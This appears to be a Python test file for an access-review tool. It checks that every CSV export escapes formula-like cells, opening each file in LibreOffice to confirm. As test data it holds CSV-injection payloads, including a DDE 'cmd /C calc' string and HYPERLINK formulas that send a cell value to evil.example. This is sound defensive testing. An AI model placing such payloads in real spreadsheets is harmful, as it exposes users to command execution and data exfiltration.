"""Every CSV the tool writes is text to a spreadsheet, never a live formula (issue 15, item 2).

``findings --format csv`` and ``who --format csv`` once emitted cells such as
``=HYPERLINK(...)`` that LibreOffice turned into live formulas. Now one writer
(``access_review/csv_output.py``) serves every CSV — those two, the superintendent's csv
folder and evidence packs — and each is opened here by LibreOffice itself.
"""

from __future__ import annotations

from datetime import datetime, timezone
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from access_review.cli import app
from access_review.csv_output import build_csv, csv_text
from access_review.store import Store
from exports.evidence import build_evidence_pack, write_evidence_pack
from exports.feature_views import CampaignItemView, CampaignView
from libreoffice import run_libreoffice
from test_export_support import INJECTION_CORPUS, build_tiny_district

FULL_WIDTH = ("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)")
HOSTILE = INJECTION_CORPUS + FULL_WIDTH
# LibreOffice's CSV import: comma, double quote, UTF-8, from line 1.
CSV_IMPORT = "Text - txt - csv (StarCalc):44,34,76,1"
runner = CliRunner()


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_cells_get_a_leading_quote(text):
    assert csv_text(text) == "'" + text.replace("\r", "\n")


def test_numbers_stay_numbers_and_ordinary_text_is_untouched():
    assert [csv_text(v) for v in (-5, 2.5, None, True, "O'Brien", "a=b")] == [
        "-5",
        "2.5",
        "",
        "True",
        "O'Brien",
        "a=b",
    ]
    assert build_csv(["a", "=b"], [["=1+1", 3]]) == "a,'=b\r\n'=1+1,3\r\n"


def libreoffice_to_xlsx(files: list[Path], outdir: Path) -> dict[str, Path]:
    """Open every CSV in headless LibreOffice (formulas evaluated, as a person opening it gets)
    and save it as xlsx; one LibreOffice start for all of them."""
    proc = run_libreoffice(files, "xlsx", outdir, infilter=CSV_IMPORT, timeout=300)
    converted = {f.name: outdir / (f.stem + ".xlsx") for f in files}
    assert all(p.exists() for p in converted.values()), (proc.stdout, proc.stderr)
    return converted


def formulas_and_values(path: Path) -> tuple[list[str], set]:
    wb = openpyxl.load_workbook(path)
    formulas, values = [], set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{cell.coordinate}: {cell.value}")
                values.add(cell.value)
    return formulas, values


def hostile_campaign() -> CampaignView:
    when = datetime(2026, 11, 28, 9, 0, tzinfo=timezone.utc)
    items = tuple(
        CampaignItemView(
            item_id=f"I{i}",
            person=text,
            employee_id=f"E{i}",
            account=text,
            resource="Payroll",
            classification="critical",
            path=text,
            flags=(text,),
            recommendation="Revoke",
            reviewer=text,
            decision="revoke",
            decision_source="default",
            justification=text,
            decided_by=text,
            decided_at=when,
            action=text,
            action_result="changed",
            action_message=text,
            verification="gone",
        )
        for i, text in enumerate(HOSTILE)
    )
    return CampaignView(1, "=2026Q4", "verified", when, when.date(), {"ad": when}, items)


def test_every_csv_the_tool_writes_opens_in_libreoffice_without_a_live_formula(tmp_path):
    config = build_tiny_district(tmp_path / "district")
    csvs = tmp_path / "csv"
    csvs.mkdir()

    def run(*args: str) -> str:
        result = runner.invoke(app, [*args, "--config", str(config)])
        assert result.exit_code == 0, result.output
        return result.stdout

    (csvs / "findings.csv").write_text(run("findings", "--format", "csv"), encoding="utf-8")
    (csvs / "who.csv").write_text(
        run("who", "Special Education Records", "--format", "csv"), encoding="utf-8"
    )
    run(
        "export",
        "superintendent",
        "--format",
        "csv",
        "--out",
        str(tmp_path / "sheets"),
        "--today",
        "2026-11-28",
    )
    with Store(tmp_path / "district" / "store.db") as store:
        write_evidence_pack(build_evidence_pack(store, hostile_campaign()), tmp_path / "pack")
    # The control: the same text written by a plain csv writer is a live formula in LibreOffice,
    # so a clean result below means the writer neutralized it, not that LibreOffice ignores it.
    (csvs / "naive.csv").write_text(
        'name\n=1+1\n"=HYPERLINK(""http://evil.example"",""x"")"\n', encoding="utf-8"
    )
    files = [
        *csvs.glob("*.csv"),
        *(tmp_path / "sheets").glob("*.csv"),
        *(tmp_path / "pack").glob("*.csv"),
    ]
    assert len(files) == 3 + 10 + 7  # findings, who, control; superintendent sheets; evidence pack
    converted = libreoffice_to_xlsx(files, tmp_path / "lo")

    naive_formulas, _ = formulas_and_values(converted.pop("naive.csv"))
    assert len(naive_formulas) == 2, naive_formulas

    seen: set = set()
    for name, path in converted.items():
        formulas, values = formulas_and_values(path)
        assert formulas == [], f"{name}: live formulas {formulas}"
        seen |= values
    # The hostile text is there, literally, behind its quote.
    for text in (
        "=1+1",
        "-2+3",
        "@SUM(A1)",
        "+cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        *FULL_WIDTH,
    ):
        assert "'" + text in seen, text
